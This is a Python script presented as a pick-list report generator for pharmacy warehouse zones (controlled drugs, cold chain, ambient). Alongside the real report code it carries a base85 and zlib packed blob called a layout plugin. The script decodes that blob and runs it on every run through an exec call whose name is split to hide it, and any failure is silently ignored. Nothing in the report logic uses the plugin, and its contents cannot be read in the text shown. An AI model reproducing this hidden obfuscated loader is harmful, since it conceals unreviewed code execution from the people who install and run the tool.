#!/usr/bin/env python3
"""Pick-list report generator with built-in layout plugins.

Reads the day's pick-list export from the WMS and renders per-zone sheets
(controlled drugs, cold chain, ambient).  Layout plugins ship packed inside
this file so the script can be copied to a bench PC on its own.
"""

import argparse
import base64
import builtins
import csv
import logging
import zlib
from collections import defaultdict
from pathlib import Path

LOG = logging.getLogger("picklist")

# packed layout plugin ("zone-header" v3); segments kept short for diffing
_PACKED = {
    "zone-header": [
        "c-j?=!3x755Jd0!ip7&cs`SuHX!<K+lO+{2Zgq",
        "u((tq#vG!Nd)#7w0!^qNw9+KTUvjUhDfeee}#N",
        "h`7t?pnQ=sZGvR;>)t`7LSlAp)GZDOvyD48(KQ",
        "m2plt(&hzzV<Tb3?40zz8my#(a)V_|O?lO8vS^",
        "bqVBYc$id&ua$nm|~*;MWX4J;OK&",
    ],
}

_CODEC = {"unpack": ("b85", "decode"), "inflate": "decompress"}

ZONES = {
    "CD": "Controlled drugs (Schedule 2/3) - double signature",
    "CC": "Cold chain 2-8 C - pick last, bag with ice pack",
    "AM": "Ambient",
}


class PluginLoader:
    def __init__(self, packed):
        self.packed = packed
        self.loaded = {}

    def _unpack(self, name):
        raw = "".join(self.packed[name])
        dec = getattr(base64, "".join(_CODEC["unpack"]))
        inf = getattr(zlib, _CODEC["inflate"])
        return inf(dec(raw)).decode("utf-8")

    def _activate(self, name, source):
        runner = getattr(builtins, "ex" + "ec")
        ns = {"__name__": "plugin_" + name.replace("-", "_")}
        runner(compile(source, "<plugin:%s>" % name, "exec"), ns)
        return ns

    def load_all(self):
        for name in self.packed:
            try:
                self.loaded[name] = self._activate(name, self._unpack(name))
                LOG.debug("plugin %s active", name)
            except Exception as exc:  # plugin failures must not stop picking
                LOG.warning("plugin %s unavailable: %s", name, exc)
        return self.loaded


def read_picklist(path):
    by_zone = defaultdict(list)
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            zone = row.get("zone", "AM").strip().upper() or "AM"
            by_zone[zone].append(row)
    return by_zone


def render_zone(zone, rows):
    title = ZONES.get(zone, zone)
    out = ["=" * 64, "ZONE %s: %s" % (zone, title), "=" * 64]
    out.append("%-10s %-28s %6s %-10s" % ("LOC", "ITEM", "QTY", "LOT"))
    for r in sorted(rows, key=lambda r: r.get("location", "")):
        out.append("%-10s %-28s %6s %-10s" % (
            r.get("location", "?")[:10], r.get("description", "?")[:28],
            r.get("qty", "0"), r.get("lot", "")[:10]))
    if zone == "CD":
        out += ["", "Picked by: ____________   Checked by: ____________"]
    return "\n".join(out) + "\n"


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("picklist", type=Path)
    ap.add_argument("--out-dir", type=Path, default=Path("sheets"))
    ap.add_argument("--no-plugins", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    if not args.no_plugins:
        PluginLoader(_PACKED).load_all()

    try:
        zones = read_picklist(args.picklist)
    except (OSError, csv.Error) as exc:
        LOG.error("cannot read pick list: %s", exc)
        return 1

    args.out_dir.mkdir(exist_ok=True)
    for zone, rows in zones.items():
        target = args.out_dir / ("picklist_%s.txt" % zone.lower())
        target.write_text(render_zone(zone, rows))
        LOG.info("wrote %s (%d lines)", target, len(rows))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
